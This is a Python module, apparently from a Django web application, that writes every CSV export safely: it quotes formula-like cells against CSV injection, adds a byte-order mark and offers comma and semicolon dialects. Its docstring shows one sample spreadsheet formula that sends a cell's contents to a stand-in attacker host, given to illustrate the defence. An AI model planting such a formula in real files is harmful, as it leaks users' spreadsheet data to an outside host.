"""The one CSV writer of the project: every CSV file the application serves goes through here.

Three rules hold for all of them:

- A text cell that a spreadsheet would take for a formula (it starts with =, +, -, @, a tab or
  a carriage return) is written with a single quote in front (OWASP, "CSV injection"): a
  listing named `=HYPERLINK("http://evil.example/?"&A1)` reads as text instead of running.
  Numbers given as numbers (int, float, Decimal) are written unchanged, so a longitude of -0.5
  stays a number; only text is neutralised, "-3" or "+33 5 61 00 00 00" included.
- The file starts with a UTF-8 byte-order mark, without which Excel reads the file as
  Windows-1252 and shows accents garbled ("Ã©" for "é").
- Two dialects, both UTF-8 with a BOM, quoted only where needed (`"` doubled inside quotes),
  lines ended by CRLF:
  - COMMA (the default, `sep=comma`): `,` between cells, `.` in decimal numbers (62.5). The
    open-data convention; the API's export and its Table Schema describe this one.
  - SEMICOLON (`sep=semicolon`, "CSV (Excel)" on pages): `;` between cells and a decimal comma
    (62,5), which a spreadsheet set to French opens into columns and numbers by a double click.
  Codes stay text in both: département "09", postal code "09100" are written as they are;
  a spreadsheet that guesses types may drop the leading zero (the data dictionary says so).
"""

import csv
import io
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from decimal import Decimal

from django.core.exceptions import BadRequest
from django.http import HttpResponse, StreamingHttpResponse

BOM = "\ufeff"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
CONTENT_TYPE = "text/csv; charset=utf-8"
# The query parameter that chooses the dialect, on the API's exports and the pages' downloads.
SEP_PARAMETER = "sep"


@dataclass(frozen=True)
class Dialect:
    name: str  # the value of ?sep=
    delimiter: str
    decimal_comma: bool


COMMA = Dialect("comma", ",", decimal_comma=False)
SEMICOLON = Dialect("semicolon", ";", decimal_comma=True)
DIALECTS = {dialect.name: dialect for dialect in (COMMA, SEMICOLON)}


def dialect_named(name: str | None) -> Dialect:
    """The dialect `?sep=` names; COMMA when the parameter is absent (None). ValueError for
    anything else, an empty value included."""
    if name is None:
        return COMMA
    try:
        return DIALECTS[name]
    except KeyError:
        raise ValueError(name) from None


def request_dialect(request) -> Dialect:
    """The dialect a page's download asks for with `?sep=`; an unknown one is a 400."""
    try:
        return dialect_named(request.GET.get(SEP_PARAMETER))
    except ValueError:
        raise BadRequest(f"sep must be one of: {', '.join(DIALECTS)}") from None


def neutralised(text: str) -> str:
    """`text` with a quote in front when a spreadsheet would run it as a formula."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def safe_cell(value, dialect: Dialect = COMMA):
    """`value` as written in a cell: numbers as they are (with a decimal comma in the SEMICOLON
    dialect), None as empty, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):
        if dialect.decimal_comma and not isinstance(value, int):
            return str(value).replace(".", ",")
        return value
    return neutralised(str(value))


class CSVWriter:
    """csv.writer whose cells go through safe_cell(); it writes no BOM (csv_chunks does)."""

    def __init__(self, file, dialect: Dialect = COMMA, **options):
        self._dialect = dialect
        self._writer = csv.writer(file, delimiter=dialect.delimiter, **options)

    def writerow(self, row: Iterable):
        return self._writer.writerow([safe_cell(value, self._dialect) for value in row])

    def writerows(self, rows: Iterable[Iterable]):
        for row in rows:
            self.writerow(row)


def csv_chunks(
    header: Iterable, rows: Iterable[Iterable], *, dialect: Dialect = COMMA, rows_per_chunk=200
) -> Iterator[bytes]:
    """The whole file, BOM and header first, as UTF-8 bytes of `rows_per_chunk` rows each: rows
    are read lazily, so a streamed export holds only one chunk in memory."""
    buffer = io.StringIO()
    buffer.write(BOM)
    writer = CSVWriter(buffer, dialect)
    writer.writerow(header)
    for count, row in enumerate(rows, start=1):
        writer.writerow(row)
        if count % rows_per_chunk == 0:
            yield buffer.getvalue().encode()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode()


def _attachment(response, filename: str):
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_response(
    header: Iterable, rows: Iterable[Iterable], *, filename: str, dialect: Dialect = COMMA
) -> HttpResponse:
    """A CSV download built in memory: for small tables."""
    return _attachment(
        HttpResponse(
            b"".join(csv_chunks(header, rows, dialect=dialect)), content_type=CONTENT_TYPE
        ),
        filename,
    )


def streaming_csv_response(
    header: Iterable, rows: Iterable[Iterable], *, filename: str, dialect: Dialect = COMMA
) -> StreamingHttpResponse:
    """A CSV download written while it is sent: for exports of any size."""
    return _attachment(
        StreamingHttpResponse(csv_chunks(header, rows, dialect=dialect), content_type=CONTENT_TYPE),
        filename,
    )
